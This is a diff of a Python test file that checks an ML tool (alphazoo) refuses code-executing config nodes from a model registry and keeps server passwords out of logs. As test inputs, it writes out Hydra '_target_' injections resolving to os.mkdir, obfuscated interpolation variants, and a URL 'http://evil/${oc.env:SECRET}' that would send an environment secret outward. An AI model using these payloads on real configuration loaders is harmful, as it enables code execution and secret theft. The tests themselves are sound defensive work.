@@ -15,9 +15,11 @@ from typing import Any
 import pandas as pd
 import pytest
 from conftest import SMALL, Alphazoo, small_config
+from omegaconf import OmegaConf
 from test_resume import stopped_in
 
-from alphazoo.config import config_dir
+from alphazoo.config import compose, config_dir, instantiate
+from alphazoo.data.labels import Label
 from alphazoo.errors import InputError, PrunedError
 from alphazoo.runs import Run
 from alphazoo.tracking import Tracker, last_step, need, tracked
@@ -26,6 +28,7 @@ from alphazoo.train import train
 NAMES = ("mlflow", "wandb", "tensorboard")
 TINY = ["model=linear", "+trainer.limit_train_batches=5"]
 DAY = "date=2015-06-30"
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
 
 
 def tracker(name: str) -> None:
@@ -70,7 +73,9 @@ def told(empty_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("told")
     uri = f"sqlite:///{shutil.copy(empty_store, folder / 'mlflow.db')}"
     loggers = [f"logger=[{','.join(NAMES)}]", f"logger.mlflow.tracking_uri={uri}"]
-    train(small_config(*loggers, "model.hidden_size=4", f"folder={folder}", "report=true"))
+    with pytest.MonkeyPatch.context() as patch:  # the tests may run outside a checkout
+        patch.setattr("alphazoo.facts._git", lambda: {"commit": COMMIT, "changed": False})
+        train(small_config(*loggers, "model.hidden_size=4", f"folder={folder}", "report=true"))
     return folder
 
 
@@ -81,7 +86,7 @@ def expected(folder: Path) -> tuple[dict[str, str], dict[str, float]]:
         "model.hidden_size": "4",
         "data.train": "['2015-02-01', '2015-04-15']",
         "facts.data.fingerprint": run.facts["data"]["fingerprint"],
-        "facts.git.commit": run.facts["git"]["commit"],
+        "facts.git.commit": COMMIT,
         "facts.packages.torch": run.facts["packages"]["torch"],
     }
     return settings, {name: x for name, x in run.metrics.items() if x is not None}
@@ -254,20 +259,80 @@ def test_a_model_of_the_user_is_served_where_its_yaml_is(
         assert alphazoo("predict", run, DAY, "--config-dir=mine").code == 0
 
 
-def test_a_config_of_the_registry_runs_nothing(
-    alphazoo: Alphazoo, store: Path, tmp_path: Path
-) -> None:
-    """By an interpolation that makes a node, too."""
+@pytest.fixture
+def version(alphazoo: Alphazoo, store: Path) -> Path:
+    """The files of ``models:/bad/1``, which anybody who can write to the registry changes."""
     register = ["logger=mlflow", "logger.mlflow.model_name=bad", "hydra.run.dir=out"]
     alphazoo("train", *SMALL, *TINY, *register)
-    source = Path(client(store).get_model_version("bad", "1").source)
-    told = (source / "config.yaml").read_text()
-    evil = "{_target_: os.mkdir, path: harm}"
-    for node in (evil, f"'${{oc.create:\"{evil}\"}}'"):
-        (source / "config.yaml").write_text(f"{told}\nextra: {node}\n")
-        message = str(alphazoo("predict", "model_uri=models:/bad/1", DAY).code)
-        assert "makes os.mkdir, which no yaml file of alphazoo" in message
+    return Path(client(store).get_model_version("bad", "1").source)
+
+
+EVIL = "{_target_: os.mkdir, path: harm}"
+HIDDEN = """
+folder: xloss
+names: {min: os.mkdir, max: alphazoo.data.labels.Label}
+datamodule: {_target_: "${names.${better:${folder}}}", path: harm}
+"""
+
+
+@pytest.mark.parametrize(
+    ("evil", "message"),
+    [
+        (f"extra: {EVIL}", "makes os.mkdir, which no yaml file of alphazoo"),
+        (f"extra: '${{oc.create:\"{EVIL}\"}}'", "makes ${oc.create:"),
+        (HIDDEN, "makes ${names.${better:${folder}}}, which no yaml"),
+        ("names: {a: os.mkdir}\ndatamodule: {_target_: '${names.a}'}", "makes ${names.a}, which"),
+        ("d: decode\nextra: '${oc.${d}:\"[1]\"}'", "makes ${oc.${d}:"),
+        ("data: {path: 'http://evil/${oc.env:SECRET}'}", "makes http://evil/${oc.env:SECRET}, wh"),
+        (
+            "data: {path: '${oc.env:MLFLOW_TRACKING_URI,\"sqlite:///runs/mlflow.db\"}'}",
+            "makes ${oc.env:MLFLOW_TRACKING_URI,",
+        ),
+        ("ensemble: {by: rank, runs: ['${folder}/inner']}", "models:/bad/1 is an ensemble"),
+    ],
+)
+def test_a_config_of_the_registry_runs_and_tells_nothing(
+    alphazoo: Alphazoo, version: Path, tmp_path: Path, evil: str, message: str
+) -> None:
+    told = OmegaConf.load(version / "config.yaml")
+    OmegaConf.save(OmegaConf.merge(told, OmegaConf.create(evil)), version / "config.yaml")
+    assert message in str(alphazoo("predict", "model_uri=models:/bad/1", DAY).code)
     assert not (tmp_path / "harm").exists()
+
+
+def test_no_other_file_of_a_version_is_read(
+    alphazoo: Alphazoo, version: Path, tmp_path: Path
+) -> None:
+    for part in ("windows/2020", "a", "checkpoints/inner"):
+        (version / part).mkdir(parents=True)
+        (version / part / "config.yaml").write_text(
+            f"data: {{train: {EVIL}, valid: null, test: null}}"
+        )
+        shutil.copy(version / "checkpoints" / "best.ckpt", version / part)
+    assert alphazoo("predict", "model_uri=models:/bad/1", DAY).code == 0
+    assert not (tmp_path / "harm").exists()
+    (version / "config.yaml").unlink()
+    lost = str(alphazoo("predict", "model_uri=models:/bad/1", DAY).code)
+    assert "is version 1, whose files lack config.yaml" in lost
+
+
+def test_what_the_user_says_of_a_version_may_be_anything(
+    alphazoo: Alphazoo, version: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """And replaces what the registry says of it."""
+    told = OmegaConf.load(version / "config.yaml")
+    told.data.n_stocks = "${oc.env:STOCKS}"
+    OmegaConf.save(told, version / "config.yaml")
+    monkeypatch.setenv("STOCKS", "12")
+    asked = ["predict", "model_uri=models:/bad/1", DAY]
+    assert "makes ${oc.env:STOCKS}, which no" in str(alphazoo(*asked).code)
+    assert alphazoo(*asked, "data.n_stocks=12").code == 0
+    mine = "label._target_=test_tracking.OwnLabel"
+    assert alphazoo(*asked, "data.n_stocks='${oc.decode:${oc.env:STOCKS}}'", mine).code == 0
+
+
+class OwnLabel(Label):
+    """One that no yaml file names."""
 
 
 def test_bad_input_of_the_registry_is_one_message(
@@ -295,13 +360,50 @@ def test_bad_input_of_the_registry_is_one_message(
     assert "expected: alphazoo predict run=FOLDER" in str(both.code)
 
 
+def test_the_password_of_a_server_is_in_no_file_and_no_message(
+    store: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    """And another password is no other server: the run goes on."""
+    from alphazoo.tracking import mlflow
+
+    monkeypatch.setattr(mlflow, "connect", lambda _: client(store))
+    caplog.set_level("INFO")
+    for word, runs in (("secret", 1), ("p@secret", 1), ("secret", 2)):
+        monkeypatch.setenv("MLFLOW_TRACKING_URI", f"http://me:{word}@server:5000/path@x")
+        asked = instantiate(compose("logger=mlflow").logger.mlflow, folder=tmp_path)
+        assert asked.run_id
+        assert len(runs_of(store)) == runs
+        known = asked.recall()
+        assert known["store"] == known["asked"] == "http://server:5000/path@x"
+        if runs == 1 and "@" in word:
+            asked.remember(**{**known, "run": "0" * 32})
+    assert f"http://server:5000/path@x has no run {'0' * 32}: a new one begins" in caplog.text
+    assert "secret" not in caplog.text
+
+
 @pytest.mark.parametrize(
     ("told", "message"),
     [
         (
-            ["logger=mlflow", "logger.mlflow.tracking_uri=http://me:secret@127.0.0.1:9"],
+            ["logger=mlflow", "logger.mlflow.tracking_uri='${oc.env:ADDRESS}'"],
             "MLflow at http://127.0.0.1:9: .*Connection refused",
         ),
+        (
+            ["logger=mlflow", "logger.mlflow.tracking_uri='http://me:${oc.env:WORD}@127.0.0.1:9'"],
+            "MLflow at http://127.0.0.1:9: .*Connection refused",
+        ),
+        (
+            ["logger=mlflow", "logger.mlflow.tracking_uri=http://me:secret@127.0.0.1:9"],
+            r"tracking_uri holds a password, .*MLFLOW_TRACKING_PASSWORD, or write \$.oc.env:NAME",
+        ),
+        (
+            ["logger=mlflow", "logger.mlflow.tracking_uri=null"],
+            "tracking_uri=sqlite:///FILE or a U",
+        ),
+        (["logger=mlflow", "logger.mlflow.model_name=a/b"], "model_name is a name .* got 'a/b'"),
         (["logger=mlflow", "logger.mlflow.tracking_uri=odd://x"], "MLflow at odd://x: .*unsupport"),
         (["logger=mlflow", "logger.mlflow.tracking_uri=sqlite:///bad.db"], "not a database"),
         (["logger=wandb", "logger.wandb.mode=onlin"], "mode 'onlin'; did you mean 'online'"),
@@ -320,6 +422,8 @@ def test_a_tracker_that_cannot_be_had_ends_the_run_before_it_begins(
         tracker(told[0].partition("=")[2])
     monkeypatch.setenv("HOME", str(tmp_path))
     monkeypatch.delenv("WANDB_API_KEY", raising=False)
+    monkeypatch.setenv("ADDRESS", "http://me:secret@127.0.0.1:9")
+    monkeypatch.setenv("WORD", "p@secret")
     (tmp_path / "bad.db").write_text("no database" * 100)
     result = alphazoo("train", *SMALL, *told, "hydra.run.dir=out")
     with pytest.raises(InputError, match=message):
